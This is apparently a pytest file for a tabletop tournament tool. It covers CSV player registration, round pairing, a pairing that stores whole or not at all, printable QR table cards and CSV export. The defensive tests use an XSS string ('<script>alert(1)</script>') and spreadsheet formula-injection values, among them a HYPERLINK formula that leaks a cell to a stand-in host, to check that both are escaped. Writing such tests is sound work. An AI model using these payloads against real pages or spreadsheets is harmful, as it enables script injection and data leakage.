"""A tournament begun outside Rollcall and carried on in it, from the command line over a real SQLite store and
DuckDB read models: players registered from a pairing tool's CSV or from the games, rounds 1–3 imported as
records, round 4 paired; a pairing stored whole or not at all; results by seat or by name; printable table
cards; CSV a spreadsheet opens without running anything."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import sqlite3
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cli.main import app as cli
from elsewhere import PLAYERS, met_before, players_csv, round_records

NAME = "Paper Cup"


@pytest.fixture
def run(tmp_data: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.delenv("ROLLCALL_KEY", raising=False)
    runner = CliRunner()

    def invoke(*args: str, ok: bool = True):
        result = runner.invoke(cli, [*args, "--data", str(tmp_data)])
        if ok:
            assert result.exit_code == 0, result.output
        else:
            assert result.exit_code == 1 and "Traceback" not in result.output, result.output
        return result

    return invoke


def import_rounds(run, tmp_path: Path, rounds=(1, 2, 3)) -> None:
    for round_no in rounds:
        for table, lines in enumerate(round_records(NAME, round_no), start=1):
            path = tmp_path / f"r{round_no}-t{table}.rollcall.jsonl"
            path.write_text("\n".join(lines) + "\n", encoding="utf-8")
            run("import", str(path))


@pytest.fixture
def begun(run, tmp_path: Path) -> Path:
    """Created, the players registered from the CSV, rounds 1-3 imported."""
    run("tournament", "create", NAME, "--system", "t9a")
    listed = tmp_path / "players.csv"
    listed.write_bytes(players_csv())
    run("tournament", "register", NAME, "--csv", str(listed))
    import_rounds(run, tmp_path)
    return listed


def test_an_organiser_registers_from_csv_imports_three_rounds_and_pairs_the_fourth(run, begun: Path) -> None:
    players = json.loads(run("tournament", "players", NAME, "--json").stdout)
    assert [(p["player"], p["faction"], p["club"]) for p in players] == list(PLAYERS)
    again = run("tournament", "register", NAME, "--csv", str(begun)).output
    assert 'registered 0 players in Paper Cup; 8 already registered: "Anna Lind", "Boris Brandt"' in again
    assert len(json.loads(run("tournament", "players", NAME, "--json").stdout)) == 8, "nobody twice"
    refused = run("tournament", "pair", NAME, "--round", "1", ok=False).output
    assert "round 1 cannot be paired: the next round of Paper Cup is 4 (round 1 has 4 game(s) already)" in refused
    printed = run("tournament", "pair", NAME, "--round", "4", "--seed", "1").output
    assert "round 4 of Paper Cup: 4 tables" in printed
    round_four = json.loads(run("tournament", "pairings", NAME, "--json").stdout)
    assert [r["round"] for r in round_four] == [4] * 4 and round_four[0]["player"] == "Anna Lind"
    assert not {frozenset((r["player"], r["opponent"])) for r in round_four} & met_before(4)
    round_one = json.loads(run("tournament", "pairings", NAME, "--round", "1", "--json").stdout)
    assert [(r["table_no"], r["game"], r["result"]) for r in round_one] == [
        (t, f"paper-r1-t{t}", "W") for t in (1, 2, 3, 4)], "the imported round shows as its games"
    listed = run("tournament", "list").output
    assert "Paper Cup  t9a  16 games, 3 rounds played; round 4: 0 of 4 results" in listed


def test_a_bad_row_of_a_player_list_is_named_by_file_line_and_field_and_its_player_alone_is_left_out(
        run, tmp_path: Path) -> None:
    run("tournament", "create", NAME, "--system", "t9a")
    listed = tmp_path / "players.csv"
    listed.write_text("Name,Faction,E-mail\nAnna,orcs,a@example.invalid\nBoris\n", encoding="utf-8")
    refused = run("tournament", "register", NAME, "--csv", str(listed), ok=False)
    assert refused.exit_code == 1
    assert f'{listed}: name from "Name"; faction from "Faction"; columns ignored: "E-mail"' in refused.output
    assert "registered 1 player in Paper Cup" in refused.output
    assert f"refused 1 row (its player is not registered):\n  {listed}:3: field `Faction` is empty" in refused.output
    assert [p["player"] for p in json.loads(run("tournament", "players", NAME, "--json").stdout)] == ["Anna"]
    headless = tmp_path / "headless.csv"
    headless.write_text("Nickname,Faction\nAnna,orcs\n", encoding="utf-8")
    unread = run("tournament", "register", NAME, "--csv", str(headless), ok=False).output
    assert "headless.csv:1: the header row names no column of the players' names (a name column is headed name, " \
           "player" in unread and "Traceback" not in unread
    missing = run("tournament", "register", NAME, "--csv", str(tmp_path / "none.csv"), ok=False).output
    assert "none.csv: cannot be read (No such file or directory)" in missing
    both = run("tournament", "register", NAME, "--csv", str(listed), "--from-games", ok=False).output
    assert "name one: --player NAME, --csv FILE or --from-games" in both
    stray = run("tournament", "register", NAME, "--csv", str(listed), "--faction", "orcs", ok=False).output
    assert "--faction and --club go with --player" in stray


def test_the_players_of_imported_games_register_from_the_games(run, tmp_path: Path) -> None:
    run("tournament", "create", NAME, "--system", "t9a")
    import_rounds(run, tmp_path, rounds=(1,))
    refused = run("tournament", "pair", NAME, "--round", "2", ok=False).output
    assert "0 player(s) to pair" in refused and "--from-games` registers the 8 players of its games" in refused
    assert "registered 8 players in Paper Cup" in run("tournament", "register", NAME, "--from-games").output
    players = json.loads(run("tournament", "players", NAME, "--json").stdout)
    assert sorted((p["player"], p["faction"]) for p in players) == sorted((n, f) for n, f, _ in PLAYERS)
    assert "registered 0 players" in run("tournament", "register", NAME, "--from-games").output
    assert "round 2 of Paper Cup: 4 tables" in run("tournament", "pair", NAME, "--round", "2").output


def test_a_fault_in_the_middle_of_storing_a_pairing_leaves_nothing_stored(tmp_data: Path) -> None:
    from service.application import Rollcall
    from domain.integrity import GAME_CREATED
    from domain.player_lists import read_player_list

    store = Rollcall.open(tmp_data)
    store.create_tournament(NAME, "t9a")
    store.register_players(NAME, read_player_list(players_csv(), "players.csv").entries)
    before = store.recorder.max_notification_id()
    insert, created = store.recorder._insert_events, []

    def fails_at_the_third_game(cursor, stored_events, **kwargs):
        """Writes the rows before the third game's header, then the disk fills up."""
        for i, event in enumerate(stored_events):
            if event.topic == GAME_CREATED:
                created.append(event)
                if len(created) == 3:
                    insert(cursor, stored_events[:i], **kwargs)
                    raise sqlite3.OperationalError("database or disk is full")
        return insert(cursor, stored_events, **kwargs)

    store.recorder._insert_events = fails_at_the_third_game
    with pytest.raises(Exception, match="the event store is full"):
        store.pair_round(NAME, 1, seed=1)
    store.close()
    assert len(created) == 3, "the fault came in the middle of the round's games"
    again = Rollcall.open(tmp_data)
    try:
        assert again.recorder.max_notification_id() == before, "nothing of the pairing was stored"
        assert again.tournament(NAME).rounds == {} and not list(again.headers())
        paired = again.pair_round(NAME, 1, seed=1)  # the same pairing goes through once the disk has room
        assert [again.stored_lines(t["game"])[0]["table"] for t in paired["tables"]] == [1, 2, 3, 4]
    finally:
        again.close()


def test_a_player_named_p2_is_no_seat_id_in_disguise(run, tmp_path: Path) -> None:
    from domain.scenarios import scenarios

    run("tournament", "create", "Club Night", "--system", "t9a")
    header = {"rollcall": 1, "system": "t9a", "game": "club-r1-t1", "tournament": "Club Night", "round": 1,
              "table": 1, "players": [{"id": "p1", "name": "P2"}, {"id": "p2", "name": "Boris"}],
              "setup": next(iter(scenarios("t9a").values()))}
    path = tmp_path / "club.rollcall.jsonl"
    path.write_text(json.dumps(header) + "\n", encoding="utf-8")
    run("import", str(path))
    refused = run("tournament", "result", "Club Night", "--round", "1", "--table", "1", "--score", "P2=3",
                  "--score", "Boris=1", ok=False).output
    assert "'P2' at table 1 of round 1 reads two ways: seat p2, who is Boris, or the player named P2, who sits as " \
           "p1; write seat:p2=VP or name:P2=VP" in refused.replace("\n", " ")
    done = run("tournament", "result", "Club Night", "--round", "1", "--table", "1", "--score", "name:P2=3",
               "--score", "Boris=1").output
    assert "round 1, table 1: P2 3 – 1 Boris; P2 wins" in done


# --- printable table cards -----------------------------------------------------------------------------

def card_images(page: str) -> list[tuple[str, bytes]]:
    """(the URL the page says the code holds, the PNG) of every QR image of a cards page."""
    found = re.findall(r'<img src="data:image/png;base64,([^"]+)" alt="[^"]*" data-url="([^"]+)"', page)
    return [(url.replace("&amp;", "&"), base64.b64decode(png)) for png, url in found]


def decoded(png: bytes) -> str | None:
    """The text of the QR code in ``png``, read by zxing-cpp (None when no decoder is installed)."""
    try:
        import zxingcpp
        from PIL import Image
    except ImportError:
        return None
    [code] = zxingcpp.read_barcodes(Image.open(io.BytesIO(png)))
    return code.text


def test_table_cards_show_each_table_with_escaped_names_and_working_qr_codes(run, tmp_path: Path) -> None:
    run("tournament", "create", "Night <Cup>", "--system", "t9a")
    listed = tmp_path / "players.csv"
    listed.write_text('name,faction\n"<script>alert(1)</script>",orcs\nBjörk & Co,sylvan\nAnna,orcs\nBo,sylvan\n',
                      encoding="utf-8")
    run("tournament", "register", "Night <Cup>", "--csv", str(listed))
    paired = run("tournament", "pair", "Night <Cup>", "--round", "1", "--seed", "2").output
    out = tmp_path / "cards.html"
    printed = run("tournament", "cards", "night <cup>", "--round", "1", "-o", str(out), "--base-url",
                  "https://venue.example:8443/").output
    assert f"wrote {out}: 2 table cards of round 1" in printed
    page = out.read_text(encoding="utf-8")
    assert re.findall(r'<div class="table">(Table \d+)</div>', page) == ["Table 1", "Table 2"]
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "Björk &amp; Co" in page and "Night &lt;Cup&gt;" in page and "Orcs" in page and "Sylvan" in page
    assert "break-after: page" in page and "size: A4" in page
    games = re.findall(r"game (night-cup-r1-t\d)", paired)
    expected = [url for game in games for url in (f"https://venue.example:8443/record?game={game}",
                                                  "https://venue.example:8443/live?tournament=Night+%3CCup%3E&round=1")]
    images = card_images(page)
    assert [url for url, _ in images] == expected
    for url, png in images:
        assert decoded(png) in (url, None), "each QR code holds the address printed under it"
    pytest.importorskip("zxingcpp")
    assert all(decoded(png) == url for url, png in images)


def test_the_cards_of_a_round_without_tables_or_with_a_bad_address_are_refused(run, begun: Path) -> None:
    bad = run("tournament", "cards", NAME, "-o", "cards.html", "--base-url", "venue:8501", ok=False).output
    assert "--base-url must be the dashboard's address, such as http://localhost:8501, not 'venue:8501'" in bad
    none = run("tournament", "cards", NAME, "--round", "9", "-o", "cards.html", ok=False).output
    assert "Paper Cup has no table to print in that round" in none


def test_the_cards_default_to_the_last_round_and_this_machines_network_address(
        run, begun: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No dashboard serves the data folder: the cards link to the machine's network address on the dashboard's port
    (docs/venue.md), and say so. The machine's interfaces are given, so that the test reads no real network."""
    monkeypatch.setattr("cli.network.interface_addresses", lambda: ["192.0.2.7", "198.51.100.3"])
    out = tmp_path / "cards.html"
    printed = run("tournament", "cards", NAME, "-o", str(out)).output
    urls = [url for url, _ in card_images(out.read_text(encoding="utf-8"))]
    assert urls[:2] == ["http://192.0.2.7:8501/record?game=paper-r3-t1",
                        "http://192.0.2.7:8501/live?tournament=Paper+Cup&round=3"]
    assert "the cards link to http://192.0.2.7:8501, where `rollcall dashboard --host 0.0.0.0` serves them" in printed


def test_the_cards_of_a_machine_without_a_network_link_to_the_local_dashboard(
        run, begun: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("cli.network.interface_addresses", lambda: [])
    out = tmp_path / "cards.html"
    run("tournament", "cards", NAME, "-o", str(out))
    urls = [url for url, _ in card_images(out.read_text(encoding="utf-8"))]
    assert urls[:2] == ["http://localhost:8501/record?game=paper-r3-t1",
                        "http://localhost:8501/live?tournament=Paper+Cup&round=3"]


# --- CSV a spreadsheet opens as text ---------------------------------------------------------------------

FORMULAS = ('=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)")


def test_names_a_spreadsheet_would_run_are_written_as_text_in_every_tournament_csv(run, tmp_path: Path) -> None:
    run("tournament", "create", "Club Night", "--system", "t9a")
    listed = tmp_path / "players.csv"
    with listed.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["name", "faction", "club"])
        for i, formula in enumerate(FORMULAS):
            writer.writerow([formula, f"={i}faction", f"@club{i}"])
        writer.writerow(["Anna - the second", "orcs", ""])
    run("tournament", "register", "Club Night", "--csv", str(listed))
    run("tournament", "pair", "Club Night", "--round", "1", "--seed", "1")
    run("tournament", "result", "Club Night", "--round", "1", "--table", "1", "--score", "p1=3", "--score", "p2=1")
    for command, columns in (("standings", ("player", "faction", "club")),
                             ("pairings", ("player", "faction", "opponent", "opponent_faction")),
                             ("results", ("player", "faction", "opponent", "opponent_faction"))):
        rows = list(csv.DictReader(io.StringIO(run("tournament", command, "Club Night", "--csv").stdout)))
        cells = [r[c] for r in rows for c in columns if r[c]]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], command
        names = {c for r in rows for c in (r["player"], r.get("opponent")) if c}
        assert names == {"'" + f for f in FORMULAS} | {"Anna - the second"}, command
    standing = {r["player"]: r for r in csv.DictReader(io.StringIO(run("tournament", "standings", "Club Night",
                                                                        "--csv").stdout))}
    assert standing["'+1+1"]["club"] == "'@club1" and standing["'+1+1"]["faction"] == "'=1faction"
    assert sorted(r["vp_diff"] for r in standing.values() if r["games"] == "1") == ["-2", "2"], \
        "numbers stay numbers, a negative one too"
